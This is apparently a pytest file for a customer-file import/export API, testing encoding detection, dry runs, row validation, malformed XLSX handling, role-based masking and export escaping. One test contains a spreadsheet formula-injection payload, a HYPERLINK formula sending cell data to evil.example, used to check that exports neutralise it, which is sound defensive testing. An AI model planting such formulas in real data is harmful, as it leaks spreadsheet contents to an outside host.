"""Import and export of customer files: encodings, dry run, per-row errors, all or nothing."""

from __future__ import annotations

import csv
import io
import itertools
import uuid
from datetime import UTC, datetime, timedelta

from openpyxl import load_workbook

from backend.archive.tabular import xlsx_rows
from backend.reports.export import XLSX_MEDIA_TYPE
from tests.archive.helpers import damaged_xlsx, patched_xlsx, sprawling_xlsx
from tests.conftest import assert_problem

_n = itertools.count(1)
HEADER_ZH = ["户号", "户名", "用户类型", "电压等级", "合同容量", "地区", "管理单位", "联系人",
             "联系电话", "用电地址", "纬度", "经度", "线路", "电能表编号", "表型", "抄表方式",
             "装表日期", "检定日期"]  # fmt: skip


def _row(**overrides):
    n = next(_n)
    row = {"户号": f"IMP{n:07d}", "户名": f"李{n}家", "用户类型": "居民", "电压等级": "220V",
           "合同容量": "8", "地区": "HZ", "管理单位": "ST-URB", "联系人": "李雷",
           "联系电话": "13800138000", "用电地址": f"杭州市上城区清河坊{n}号", "纬度": "30.24",
           "经度": "120.17", "线路": "清河线", "电能表编号": f"MI{n:08d}", "表型": "single_phase",
           "抄表方式": "远程", "装表日期": "2022-05-01"}  # fmt: skip
    row.update(overrides)
    return row


def _csv(rows, encoding="utf-8"):
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=HEADER_ZH)
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


def _post(api, data, name="customers.csv", **form):
    return api.post(
        "/api/v1/customer-imports",
        data={"file": (io.BytesIO(data), name), **{k: str(v).lower() for k, v in form.items()}},
        content_type="multipart/form-data",
    )


def _found(api, account):
    return api.get(f"/api/v1/customers?account_number={account}").get_json()


def test_dry_run_writes_nothing_then_import_commits(api):
    archivist = api("archivist")
    rows = [_row(), _row()]
    dry = _post(archivist, _csv(rows), dry_run=True)
    assert dry.status_code == 201, dry.get_json()
    job = dry.get_json()
    assert (job["status"], job["progress"], job["created_rows"]) == ("validated", 1.0, 0)
    assert _found(archivist, rows[0]["户号"]) == []
    done = _post(archivist, _csv(rows))
    assert done.get_json()["status"] == "committed" and done.get_json()["created_rows"] == 2
    assert done.get_json()["encoding"] == "utf-8"
    customer = _found(archivist, rows[0]["户号"])[0]
    history = archivist.get(f"/api/v1/customers/{customer['id']}/history").get_json()
    assert {v["entity"] for v in history} == {"customer", "premise", "meter"}
    assert {v["source"] for v in history} == {"import"}
    again = archivist.get(f"/api/v1/customer-imports/{done.get_json()['id']}").get_json()
    assert again["status"] == "committed"


def test_gbk_is_detected_and_a_wrong_declared_encoding_refused(api):
    archivist = api("archivist")
    row = _row()
    data = _csv([row], encoding="gbk")
    assert_problem(_post(archivist, data, encoding="utf-8"), 422)
    done = _post(archivist, data)
    assert done.status_code == 201, done.get_json()
    assert done.get_json()["encoding"] == "gbk"
    assert _found(archivist, row["户号"])[0]["name"] == row["户名"]


def test_bad_rows_are_listed_and_nothing_is_written(api):
    archivist = api("archivist")
    good = _row()
    rows = [
        good,
        _row(地区="MARS"),
        _row(电压等级="11kV", 合同容量="lots"),
        _row(户号=good["户号"]),
        _row(表型="steam"),
        _row(纬度=""),
        _row(管理单位="NOPE"),
    ]
    response = _post(archivist, _csv(rows))
    problem = assert_problem(response, 422)
    found = {(e["row"], e["column"]) for e in problem["row_errors"]}
    assert {(3, "地区"), (4, "电压等级"), (4, "合同容量"), (5, "户号"), (6, "表型"), (7, "纬度"),
            (8, "管理单位")} <= found  # fmt: skip
    assert (2, "户号") not in found
    assert all(e["reason"] for e in problem["row_errors"])
    assert _found(archivist, good["户号"]) == []  # all or nothing


def test_implausible_meter_dates_are_row_errors_on_new_and_known_files(api):
    archivist = api("archivist")
    known = _row()
    assert _post(archivist, _csv([known])).get_json()["created_rows"] == 1
    rows = [
        _row(装表日期="1920-03-01"),
        _row(装表日期=str(datetime.now(UTC).date() + timedelta(days=3))),
        {**known, "装表日期": "1949-12-31"},
    ]
    problem = assert_problem(_post(archivist, _csv(rows)), 422)
    found = {(e["row"], e["column"]): e["reason"] for e in problem["row_errors"]}
    assert set(found) == {(2, "装表日期"), (3, "装表日期"), (4, "装表日期")}
    assert "1950-01-01" in found[(2, "装表日期")] and "future" in found[(3, "装表日期")]
    assert _found(archivist, rows[0]["户号"]) == []

    # Out of the API's years: the rule's message too; a calibration before the installation
    # is refused on a new file (here) and on a known one (through the meter service).
    rows = [
        _row(装表日期="0001-01-01"),
        _row(装表日期="1960-01-01", 检定日期="1959-01-01"),
    ]
    problem = assert_problem(_post(archivist, _csv(rows)), 422)
    found = {(e["row"], e["column"]): e["reason"] for e in problem["row_errors"]}
    assert found[(2, "装表日期")] == "Expected a date from 1950-01-01 on."
    assert found[(3, "检定日期")] == "Expected a date not before the meter's installation date."
    rows = [{**known, "检定日期": "2000-01-01"}]
    problem = assert_problem(_post(archivist, _csv(rows)), 422)
    assert "installation date" in str(problem["row_errors"])


def test_reimport_appends_versions_and_malformed_files_are_refused(api):
    archivist = api("archivist")
    row = _row()
    _post(archivist, _csv([row]))
    changed = _post(archivist, _csv([{**row, "合同容量": "12", "用电地址": "杭州市新地址1号"}]))
    assert changed.get_json()["updated_rows"] == 1, changed.get_json()
    customer = _found(archivist, row["户号"])[0]
    assert customer["version_no"] == 2 and customer["contract_capacity_kw"] == 12
    assert_problem(_post(archivist, b"\xff\xfe\x00garbage", name="x.xlsx"), 422)
    damaged = assert_problem(_post(archivist, damaged_xlsx(HEADER_ZH), name="d.xlsx"), 422)
    assert "damaged" in damaged["detail"]
    # One cell at row 10^12: the reader stops at its bound instead of yielding blank rows.
    sprawling = assert_problem(_post(archivist, sprawling_xlsx(HEADER_ZH), name="s.xlsx"), 422)
    assert "rows per sheet" in sprawling["detail"]
    # A sheet declaring 16,384 columns by a million rows is read to its real rows, 256 wide.
    wide = patched_xlsx(
        HEADER_ZH, rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', pattern=True
    )
    answered = assert_problem(_post(archivist, wide, name="w.xlsx", dry_run=True), 422)
    assert {e["row"] for e in answered["row_errors"]} == {2}  # its one (incomplete) data row
    assert all(len(row) <= 256 for row in xlsx_rows(wide))
    assert_problem(_post(archivist, "户号,颜色\n1,红\n".encode()), 422)
    assert_problem(_post(archivist, b""), 422)


def test_export_roundtrips_and_follows_field_permissions(api):
    archivist = api("archivist")
    row = _row()
    _post(archivist, _csv([row]))
    exported = archivist.get(f"/api/v1/customer-exports?format=xlsx&q={row['户号']}")
    assert exported.status_code == 200
    sheet = load_workbook(io.BytesIO(exported.data)).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[1][0] == row["户号"] and len(values) == 2
    back = _post(archivist, exported.data, name="back.xlsx", dry_run=True)
    assert back.get_json()["status"] == "validated", back.get_json()
    masked = api("auditor").get(f"/api/v1/customer-exports?format=csv&q={row['户号']}")
    assert masked.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert exported.headers["Content-Type"] == XLSX_MEDIA_TYPE
    text = masked.data.decode("utf-8-sig")
    assert "13800138000" not in text and "*******8000" in text
    assert_problem(api("crew1").get("/api/v1/customer-exports"), 403)
    assert_problem(_post(api("crew1"), _csv([_row()])), 403)


def _client(sync_app, backend, who):
    from tests.sync.conftest import token

    client = sync_app.test_client()
    return client, {"Authorization": f"Bearer {token(backend, who)}"}


def _background(client, headers, data, **form):
    from backend.archive import import_jobs

    response = client.post(
        "/api/v1/customer-imports", headers=headers, content_type="multipart/form-data",
        data={"file": (io.BytesIO(data), "big.csv"), "background": "true",
              **{k: str(v).lower() for k, v in form.items()}},
    )  # fmt: skip
    assert response.status_code == 202, response.get_json()
    queued = response.get_json()
    response.close()  # the import starts once the request (and the job row) committed
    import_jobs.wait(uuid.UUID(queued["id"]))
    job = client.get(f"/api/v1/customer-imports/{queued['id']}", headers=headers).get_json()
    return queued, job


def test_a_long_import_runs_in_the_background_with_progress(sync_app, backend):
    client, headers = _client(sync_app, backend, "archivist")
    tag = uuid.uuid4().hex[:6].upper()
    rows = [_row(户号=f"BG{tag}{n:04d}", 电能表编号=f"MB{tag}{n:04d}") for n in range(30)]
    queued, job = _background(client, headers, _csv(rows))
    assert queued["status"] == "queued" and queued["progress"] == 0.0
    assert queued["total_rows"] == 60  # checked, then written
    assert (job["status"], job["progress"], job["created_rows"]) == ("committed", 1.0, 30)
    found = client.get(f"/api/v1/customers?account_number=BG{tag}0007", headers=headers)
    assert len(found.get_json()) == 1


def test_a_failing_background_import_writes_nothing_and_says_why(sync_app, backend):
    client, headers = _client(sync_app, backend, "archivist")
    tag = uuid.uuid4().hex[:6].upper()
    rows = [_row(户号=f"BF{tag}1"), _row(户号=f"BF{tag}2", 电压等级="999V")]
    _, job = _background(client, headers, _csv(rows))
    assert job["status"] == "failed" and job["created_rows"] == 0
    assert [(e["row"], e["column"]) for e in job["errors"]] == [(3, "电压等级")]
    found = client.get(f"/api/v1/customers?account_number=BF{tag}1", headers=headers)
    assert found.get_json() == []


def test_exports_never_carry_a_live_formula(api):
    """A name typed as `=HYPERLINK(...)` (by a customer, an import or a handheld) is text in
    every export: CSV gets the spreadsheet's `'` escape, XLSX a string cell; both re-import."""
    archivist = api("archivist")
    formula = '=HYPERLINK("http://evil.example/?x="&A2,"open")'
    row = _row(户名=formula, 用电地址="@SUM(1+1)")
    _post(archivist, _csv([row]))
    exported = archivist.get(f"/api/v1/customer-exports?format=xlsx&q={row['户号']}")
    cells = list(load_workbook(io.BytesIO(exported.data)).active.iter_rows())[1]
    assert {(c.value, c.data_type) for c in cells if c.value in (formula, "@SUM(1+1)")} == {
        (formula, "s"),
        ("@SUM(1+1)", "s"),
    }
    as_csv = archivist.get(f"/api/v1/customer-exports?format=csv&q={row['户号']}")
    [line] = list(csv.DictReader(io.StringIO(as_csv.data.decode("utf-8-sig"))))
    assert line["户名" if "户名" in line else "name"] == "'" + formula
    back = _post(archivist, as_csv.data, name="back.csv", dry_run=True)
    assert back.get_json()["status"] == "validated", back.get_json()
    assert _found(archivist, row["户号"])[0]["name"] == formula


def test_exports_carry_control_characters_as_their_ooxml_escape(api):
    """A name holding a control character (storable: only NUL is refused) exports as XLSX."""
    archivist = api("archivist")
    row = _row(户名="王\x01芳\x02")
    assert _post(archivist, _csv([row])).status_code == 201
    exported = archivist.get(f"/api/v1/customer-exports?format=xlsx&q={row['户号']}")
    assert exported.status_code == 200, exported.get_data(as_text=True)[:300]
    values = [c.value for c in list(load_workbook(io.BytesIO(exported.data)).active.iter_rows())[1]]
    assert "王_x0001_芳_x0002_" in values
